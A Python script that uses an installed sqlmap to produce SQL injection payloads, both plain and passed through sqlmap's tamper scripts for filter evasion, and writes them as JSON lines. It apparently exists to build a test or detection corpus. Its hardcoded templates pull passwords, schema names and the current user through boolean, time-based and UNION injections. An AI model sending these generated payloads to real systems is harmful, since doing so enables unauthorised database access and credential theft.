"""Writes sqlmap's own payloads, plain and through its tamper scripts, one JSON object a line.

Payloads are put together from the boundaries and tests that the installed sqlmap ships, as it does itself; which ones is decided by the
seed. Usage: generate.py SQLMAP_FOLDER PAYLOADS SCRIPTS_EACH SEED
"""

import importlib
import json
import os
import random
import re
import sys
import xml.etree.ElementTree as ElementTree

folder, payloads, scripts_each, seed = sys.argv[1], *map(int, sys.argv[2:5])
sys.argv = ["sqlmap"]
sys.path.insert(0, folder)
os.chdir(folder)
random.seed(seed)

from lib.core.common import getFileItems, setPaths  # noqa: E402
from lib.core.data import conf, kb, paths  # noqa: E402

setPaths(folder)
kb.keywords = set(getFileItems(paths.SQL_KEYWORDS))
kb.aliasName = "qzkb"
kb.smokeMode = conf.smokeTest = True

# These write headers, or add arguments beside the payload.
NO_PAYLOADS = {"luanginx", "luanginxmore", "varnish", "xforwardedfor"}
SCRIPTS = {
    name: importlib.import_module(f"tamper.{name}")
    for name in sorted(file[:-3] for file in os.listdir(f"{folder}/tamper") if file.endswith(".py"))
    if not name.startswith("__") and name not in NO_PAYLOADS
}
CONDITIONS = [
    "ORD(MID((SELECT password FROM users ORDER BY id LIMIT 0,1),1,1))>64",
    "SUBSTR((SELECT name FROM sqlite_master LIMIT 1),1,1)>'M'",
    "ASCII(SUBSTRING((SELECT current_user)::text FROM 1 FOR 1))>64",
    "2=2",
]
QUERIES = ["SELECT password FROM users LIMIT 0,1", "SELECT name FROM sqlite_master", "SELECT VERSION()", "CURRENT_USER"]
COLUMNS = ["CONCAT('q','z')", "password", "@@version", "1234", "'q'||(SELECT group_concat(name) FROM sqlite_master)||'q'"]
SOURCES = ["", " FROM users", " FROM INFORMATION_SCHEMA.TABLES"]


def texts(element, name, default):
    return (element.findtext(name) or default).split(",")


BOUNDARIES = list(ElementTree.parse(paths.BOUNDARIES_XML).getroot().iter("boundary"))
TESTS = [
    (test, file == "union_query.xml")
    for file in sorted(os.listdir(paths.SQLMAP_XML_PAYLOADS_PATH))
    for test in ElementTree.parse(f"{paths.SQLMAP_XML_PAYLOADS_PATH}/{file}").getroot().iter("test")
]


def number():
    return str(random.randint(1000, 9999))


def word():
    return "".join(random.choice("abcdefghijklmnopqrstuvwxyzABCDEFGHIJKLMNOPQRSTUVWXYZ") for _ in range(4))


def filled(text):
    known = {
        "[INFERENCE]": random.choice(CONDITIONS),
        "[QUERY]": random.choice(QUERIES),
        "[UNION]": "UNION ALL SELECT",
        "[GENERIC_SQL_COMMENT]": f"-- {word()}",
        "[DELIMITER_START]": "qkzbq",
        "[DELIMITER_STOP]": "qpvxq",
        "[SLEEPTIME]": "5",
        "[DELAY]": "5000000",
        "[DELAYED]": "5000000",
        "[ORIGVALUE]": "1",
        "[ORIGINAL]": "1",
    }
    return re.sub(
        r"\[[A-Z_0-9]+\]",
        lambda found: known.setdefault(found[0], word() if found[0].startswith("[RANDSTR") else number()),
        text,
    )


def union():
    columns = ["NULL"] * random.randint(1, 8)
    columns[random.randrange(len(columns))] = random.choice(COLUMNS)
    return f"UNION ALL SELECT {','.join(columns)}{random.choice(SOURCES)}"


def payload():
    """A value as sqlmap sends it, and what test it belongs to; None: that boundary is not for this test."""
    test, is_union = random.choice(TESTS)
    boundary = random.choice(BOUNDARIES)
    clauses, others = set(texts(test, "clause", "0")), set(texts(boundary, "clause", "0"))
    where = set(texts(test, "where", "1")) & set(texts(boundary, "where", "1"))
    request = test.find("request")
    code = random.choice([request.findtext("payload"), test.findtext("vector")]) or ""
    if is_union or "[UNION]" in code:
        code = union()
    if not where or not code or not ("0" in clauses | others or clauses & others):
        return None
    comment = request.findtext("comment") or ""
    prefix, suffix = boundary.findtext("prefix") or "", boundary.findtext("suffix") or ""
    place = random.choice(sorted(where))
    if place == "3":
        return filled(code + comment), test.findtext("title")
    before = "1" if place == "1" else f"-{number()}"
    return before + filled(f"{prefix} {code}{comment or f' {suffix}'}"), test.findtext("title")


written = 0
while written < payloads:
    made = payload()
    if made is None:
        continue
    written += 1
    value, title = made
    print(json.dumps({"script": "", "title": title, "value": value}))
    for name in random.sample(sorted(SCRIPTS), min(scripts_each, len(SCRIPTS))):
        tampered = SCRIPTS[name].tamper(payload=value, headers={})
        if tampered is not None and tampered != value:
            print(json.dumps({"script": name, "title": title, "value": tampered}))
